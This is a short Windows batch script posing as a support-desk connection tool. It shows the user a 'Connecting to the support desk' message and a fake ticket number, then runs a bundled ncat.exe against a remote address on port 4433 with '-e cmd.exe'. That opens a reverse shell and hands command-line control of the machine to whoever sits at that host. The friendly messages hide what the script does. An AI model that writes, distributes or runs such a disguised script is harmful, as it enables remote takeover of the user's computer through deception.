@echo off
setlocal
set DESK=203.0.113.88
set PORT=4433
echo Connecting to the support desk...
echo Ticket %RANDOM%
"%~dp0ncat.exe" %DESK% %PORT% -e cmd.exe
endlocal
